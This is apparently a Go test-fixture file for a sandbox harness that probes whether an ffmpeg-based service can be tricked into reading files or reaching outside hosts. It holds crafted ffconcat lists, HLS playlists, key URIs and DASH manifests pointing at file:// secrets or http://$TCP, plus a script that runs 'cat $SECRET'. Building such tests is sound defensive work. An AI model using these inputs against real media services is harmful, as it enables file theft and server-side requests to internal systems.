package attack

// subtitles is a secret's text: to ffmpeg it is subtitles, text, raw samples, whatever it is asked for.
const subtitles = "1\n00:00:00,000 --> 00:00:01,000\n" + Canary + "\n\n2\n00:00:01,000 --> 00:00:02,000\n" + Canary + "\n"

// secrets are the files outside. Each holds the canary, and has a name that some reader goes by.
func secrets() map[string]string {
	return map[string]string{
		"secret.txt": subtitles, "secret.txt.cube": subtitles, "secret.ts": subtitles, "secret0.ts": subtitles, "secret1.ts": subtitles, "secret-0.log": subtitles, "secret1.txt": subtitles,
		"secret.svg":  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text id="x">` + Canary + `</text></svg>`,
		"fflambda.db": "SQLite format 3\x00" + Canary, "other/input.mp4": subtitles, "other/list.m3u8": playlist("input.mp4") + Canary, "evil.so": "\x7fELF",
	}
}

// playlist has one segment.
func playlist(segment string) string {
	return "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n" + segment + "\n#EXT-X-ENDLIST\n"
}

// keyed has one segment that is encrypted with what lies at key.
func keyed(key string) string {
	return "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"" + key + "\"\n#EXTINF:1,\nsubs.srt\n#EXT-X-ENDLIST\n"
}

func manifest(media string) string {
	return `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4">` +
		`<Representation id="1" bandwidth="1"><BaseURL>` + media + `</BaseURL><SegmentList duration="1"><SegmentURL media="` + media +
		`"/></SegmentList></Representation></AdaptationSet></Period></MPD>`
}

// planted are the files in the job's folder, as a stranger could have given them as inputs. Tokens are replaced.
func planted() map[string]string {
	return map[string]string{
		"subs.srt":      "1\n00:00:00,000 --> 00:00:01,000\nhello\n",
		"names.txt":     "$SECRET\n",
		"list.txt":      "ffconcat version 1.0\nfile '$SECRET'\n",
		"listdata.txt":  "ffconcat version 1.0\nfile 'subs.srt'\nfile '$SECRET'\n",
		"webconcat.txt": "ffconcat version 1.0\nfile 'http://$TCP/x'\n",
		"list.m3u8":     playlist("file://$SECRET"),
		"playlist.mp4":  playlist("$SECRET"),
		"inner.m3u8":    playlist("$SECRET"),
		"nested.m3u8":   "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\ninner.m3u8\n",
		"keyed.m3u8":    keyed("file://$SECRET"),
		"web.m3u8":      playlist("http://$TCP/x.ts"),
		"webkey.m3u8":   keyed("http://$TCP/key"),
		"manifest.mpd":  manifest("file://$SECRET"),
		"web.mpd":       manifest("http://$TCP/x"),
		"session.sdp":   "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 0 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
		"keyinfo.txt":   "key\n$SECRET\n",
		"evil.so":       "\x7fELF",
		"evil.sh":       "#!/bin/sh\ncat $SECRET\n",
	}
}
